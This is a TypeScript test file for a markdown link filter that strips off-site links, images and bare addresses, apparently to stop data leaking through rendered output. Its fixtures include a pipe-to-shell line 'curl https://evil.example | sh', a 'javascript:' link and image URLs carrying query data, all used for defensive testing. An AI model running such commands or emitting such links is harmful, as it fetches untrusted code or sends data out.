import * as fc from 'fast-check'
import {filterLinks, LinkFilter, type LinkPolicy} from './links.ts'

const policy: LinkPolicy = {
  leadsTo: (target) => target.startsWith('/book/') || target.startsWith('#') || /^[\w.-]*$/.test(target),
  shows: (address) => address === 'https://known.example/a' || address === 'a@known.example',
}
const filter = (text: string): string => filterLinks(text, policy)

test.each([
  ['a link off the site is its label', 'see [here](https://evil.example/x) now', 'see here now'],
  [
    'a link to the site stays',
    'see [topics](/book/docs/topics#qos "Topics") now',
    'see [topics](/book/docs/topics#qos "Topics") now',
  ],
  ['an image is what it shows', 'a ![status](https://evil.example/q?s=1 "t") b', 'a status b'],
  ['an image of the site stays', '![arm](/book/img/arm.png)', '![arm](/book/img/arm.png)'],
  ['an image in a link', '[![alt](https://evil.example/i)](https://evil.example)', '[alt]'],
  ['a label that shows an address', '[https://evil.example](https://evil.example)', '`https://evil.example`'],
  ['code in a label', '[`rclpy`](https://evil.example) x', '`rclpy` x'],
  ['a long label keeps its brackets', `[${'long '.repeat(30)}](https://evil.example)`, `[${'long '.repeat(30)}]`],
  ['a target in angle brackets', '[a](<https://evil.example/a b>)', 'a'],
  ['parentheses in a target', '[a](https://evil.example/(x)) b', 'a b'],
  ['a target on the next line', '[a](\n  https://evil.example\n) b', 'a b'],
  ['a target that nothing ends', '[a](https://evil.example', '[a] (`https://evil.example`'],
  ['a target with more behind it than a title', '[a](javascript:x y z) b', '[a] (javascript:x y z) b'],
  ['a script', '[run](javascript:alert(1))', 'run'],
  [
    'a link that is made of what another leaves',
    '[a](https://evil.example)(https://evil.example)',
    'a(`https://evil.example`)',
  ],
  ['a citation that is linked', 'so it is [1](https://evil.example).', 'so it is [1].'],
  [
    'an address',
    'see https://evil.example/a_b, or www.evil.example.',
    'see `https://evil.example/a_b`, or `www.evil.example`.',
  ],
  ['an address that is known', 'see https://known.example/a.', 'see https://known.example/a.'],
  ['an address that begins like a known one', 'https://known.example/a?q=secret', '`https://known.example/a?q=secret`'],
  [
    'an address in angle brackets',
    'see <https://evil.example> and <https://known.example/a>',
    'see `https://evil.example` and <https://known.example/a>',
  ],
  [
    'a mail address',
    '<b@evil.example> <mailto:b@evil.example> <a@known.example>',
    '`b@evil.example` `mailto:b@evil.example` <a@known.example>',
  ],
  ['an attribute of a tag', '<img src="https://evil.example/i">', '<img src="`https://evil.example/i`">'],
  [
    'a reference',
    'see [the paper][p] and [p][].\n\n[p]: https://evil.example "t"\nend',
    'see the paper and p.\n\n\nend',
  ],
  ['a reference to the site', '[p]: /book/p\n\nsee [the page][p]', '[p]: /book/p\n\nsee [the page][p]'],
  [
    'a definition with a long label',
    `[${'p'.repeat(90)}]: https://evil.example`,
    `[${'p'.repeat(90)}] : \`https://evil.example\``,
  ],
  ['a definition in a quote', '> [p]: <https://evil.example>\n> x', '> \n> x'],
  ['a note stays', '[Note]: see the page', '[Note]: see the page'],
  [
    'indices, products and intervals stay',
    'a[i][j], $[A][B]$, x[1](t), [0, 1) and [x] [y](z)',
    'a[i][j], $[A][B]$, x[1](t), [0, 1) and [x] [y](z)',
  ],
  ['citations stay', 'A [1][2] and [[3]] and [see][1]', 'A [1][2] and [[3]] and [see][1]'],
  ['escaped brackets stay', '\\[a](x) and [a\\](x)', '\\[a](x) and [a\\](x)'],
  [
    'code stays',
    '`[a](https://evil.example)` and `curl https://evil.example | sh`',
    '`[a](https://evil.example)` and `curl https://evil.example | sh`',
  ],
  [
    'a fence stays',
    '```sh\ncurl https://evil.example\n```\nhttps://evil.example',
    '```sh\ncurl https://evil.example\n```\n`https://evil.example`',
  ],
  [
    'a fence in a list stays',
    '- a\n\n  ```\n  https://evil.example\n  ```\n- https://evil.example',
    '- a\n\n  ```\n  https://evil.example\n  ```\n- `https://evil.example`',
  ],
  [
    'a fence ends with its list item',
    '- ```\n  https://evil.example\n[a](https://evil.example)',
    '- ```\n  https://evil.example\na',
  ],
  [
    'a fence ends with its quote',
    '> ```\n> https://evil.example\n[a](https://evil.example)',
    '> ```\n> https://evil.example\na',
  ],
  [
    'a fence ends with no shorter one',
    '````\n```\nhttps://evil.example\n````\n',
    '````\n```\nhttps://evil.example\n````\n',
  ],
  ['what is indented too far is no fence', 'x\n      ```\n[a](https://evil.example)', 'x\n      ```\na'],
  ['backticks with backticks behind them are no fence', '``` `x\n[a](https://evil.example)', '``` `x\na'],
  ['a stray backtick hides nothing', 'a ` b [a](https://evil.example)\nc `', 'a ` b a\nc `'],
  ['nor does one before an address', 'a ` b https://evil.example', 'a ` b ``https://evil.example``'],
  ['nor does a backslash', '\\https://evil.example', '\\ `https://evil.example`'],
  ['nor does one in another cell', '| ` [a](https://evil.example) | ` |', '| ` a | ` |'],
  ['an address ends before another script’s full stop', 'https://evil.example۔ اور', '`https://evil.example`۔ اور'],
])('%s', (_name, input, expected) => {
  expect(filter(input)).toBe(expected)
})

const PIECES = [
  '[',
  ']',
  '(',
  ')',
  '](',
  ']:',
  '!',
  '![',
  '[a](https://evil.example/x)',
  '![i](//evil.example)',
  '[p]: https://evil.example\n',
  '[a][p]',
  '[s](/book/s)',

  'https://evil.example',
  'https://known.example/a',
  'www.evil.example',
  '<https://evil.example>',
  'http',
  '://',
  '<',
  '>',

  '`',
  '``',
  '```',
  '~~~',
  '\n',
  '\n\n',
  '\n```\n',
  '\n- ',
  '\n1. ',
  '\n> ',
  '    ',
  ' ',
  '\\',
  '|',
  '$',
  '"',
  ':',
  '.',

  '[1]',
  'a',
  'h',
  'w',
  'é',
  '😀',
]

test('every way to cut a text into deltas gives the same result', () => {
  const text = fc.array(fc.constantFrom(...PIECES), {maxLength: 40}).map((pieces) => pieces.join(''))
  fc.assert(
    fc.property(text, fc.array(fc.nat({max: 200}), {maxLength: 8}), (input, cuts) => {
      const at = [0, ...cuts.filter((cut) => cut < input.length).toSorted((a, b) => a - b), input.length]
      const one = new LinkFilter(policy)
      const out = at.slice(1).map((end, index) => one.push(input.slice(at[index], end)))
      expect(out.join('') + one.end()).toBe(filter(input))
      const each = new LinkFilter(policy)
      expect(Array.from(input, (char) => each.push(char)).join('') + each.end()).toBe(filter(input))
    }),
    {numRuns: 2_000},
  )
})

test('without a fence no link that is off the site is left, whatever is around it', () => {
  const pieces = fc.constantFrom(...PIECES.filter((piece) => !/`{3}|~{3}/.test(piece)))
  fc.assert(
    fc.property(fc.array(pieces, {maxLength: 40}), (tokens) => {
      const input = tokens.join('')
      fc.pre(!/`{3}|~{3}/.test(input))
      const out = filter(input)
      const outside = out.replace(/\\[\s\S]|(?<!`)(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, '')
      expect(outside).not.toMatch(/\]\((?:https?:)?\/\/evil/)
    }),
    {numRuns: 2_000},
  )
})

test('text is held back no longer than a link needs', () => {
  const one = new LinkFilter(policy)
  expect(one.push('Words come ')).toBe('Words come ')
  expect(one.push('as they are, [')).toBe('as they are, ')
  expect(one.push('0, 1) too, when')).toBe('')
  expect(one.push(` it is clear that ${'they '.repeat(20)}`)).toContain('[0, 1) too, when it is clear')
  expect(one.push('`code')).toBe('`code')
})

test('long texts of links and of brackets go through', () => {
  expect(filter('[a](https://evil.example) '.repeat(5_000))).toBe('a '.repeat(5_000))
  for (const piece of ['[', '`a', '](', '![', '<a', '[`', '\n> ', '"(', '](x "'])
    expect(filter(piece.repeat(5_000)).length).toBeGreaterThan(0)
})
